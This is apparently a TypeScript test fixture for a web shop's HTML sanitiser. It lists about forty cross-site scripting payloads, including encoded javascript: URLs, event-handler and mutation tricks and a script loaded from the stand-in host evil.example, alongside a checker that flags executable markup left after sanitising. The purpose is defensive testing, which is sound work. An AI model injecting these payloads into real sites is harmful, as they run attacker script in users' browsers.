/**
 * Cross-site scripting payloads for every rich-text field an editor can fill (product descriptions,
 * brand descriptions, blog bodies, pages, FAQ answers, listing texts). Each must come out of the
 * shared allow-list (lib/html's sanitize) with nothing that runs: no script, no event handler, no
 * javascript:/data:/vbscript: URL, no style, frame, object, embed, form or meta.
 */
export const XSS_PAYLOADS: readonly string[] = [
  '<script>window.__xss=1</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script\x20type="text/javascript">window.__xss=1</script>',
  '<img src=x onerror="window.__xss=1">',
  '<IMG SRC=x OnErRoR=window.__xss=1>',
  '<img src="x" onerror=&#119;indow.__xss=1>',
  '<svg onload=window.__xss=1>',
  '<svg><script>window.__xss=1</script></svg>',
  '<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>',
  '<body onload=window.__xss=1>',
  '<iframe src="javascript:window.__xss=1"></iframe>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<object data="javascript:window.__xss=1"></object>',
  '<embed src="data:text/html,<script>window.__xss=1</script>">',
  '<a href="javascript:window.__xss=1">click</a>',
  '<a href="JaVaScRiPt:window.__xss=1">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss=1">click</a>',
  '<a href="java\tscript:window.__xss=1">click</a>',
  '<a href=" javascript:window.__xss=1">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">click</a>',
  '<a href="#" onclick="window.__xss=1">click</a>',
  '<form action="javascript:window.__xss=1"><button>Go</button></form>',
  '<button formaction="javascript:window.__xss=1">Go</button>',
  '<input autofocus onfocus=window.__xss=1>',
  '<details open ontoggle=window.__xss=1>',
  '<marquee onstart=window.__xss=1>x</marquee>',
  '<video><source onerror=window.__xss=1></video>',
  '<audio src=x onerror=window.__xss=1>',
  '<div style="background:url(javascript:window.__xss=1)">x</div>',
  '<style>@import "javascript:window.__xss=1";</style>',
  '<link rel=stylesheet href="javascript:window.__xss=1">',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
  '<base href="javascript:window.__xss=1//">',
  '<p>safe</p><!--<img src=x onerror=window.__xss=1>-->',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
  '<img src=x:x onerror=window.__xss=1 <p>',
  '<<script>script>window.__xss=1<</script>/script>',
  '"><img src=x onerror=window.__xss=1>',
  '<table background="javascript:window.__xss=1"><tr><td>x</td></tr></table>',
  '<p><a href="https://example.com" target="_blank" onmouseover="window.__xss=1">ok</a></p>',
];

/** URL-valued attributes, with their values. */
const URL_ATTRIBUTE =
  /\s(?:href|src|action|formaction|data|background|poster|xlink:href)\s*=\s*("[^"]*"|'[^']*'|[^\s>]+)/gi;

/** A URL value that runs script once the browser has decoded entities and dropped tabs and newlines. */
function scriptUrl(value: string): boolean {
  const decoded = value
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(Number.parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)))
    // biome-ignore lint/suspicious/noControlCharactersInRegex: browsers drop these inside a URL scheme
    .replace(/[\s\u0000-\u001f"']+/g, '');
  return /^(javascript|vbscript|data):/i.test(decoded);
}

/** True when sanitised HTML still holds something that could run. */
export function stillDangerous(html: string): boolean {
  return (
    /<\s*(script|iframe|object|embed|style|link|meta|base|form|svg|math|noscript)\b/i.test(html) ||
    /\son[a-z]+\s*=/i.test(html) ||
    /\s(style|srcdoc)\s*=/i.test(html) ||
    [...html.matchAll(URL_ATTRIBUTE)].some((m) => scriptUrl(m[1] ?? ''))
  );
}
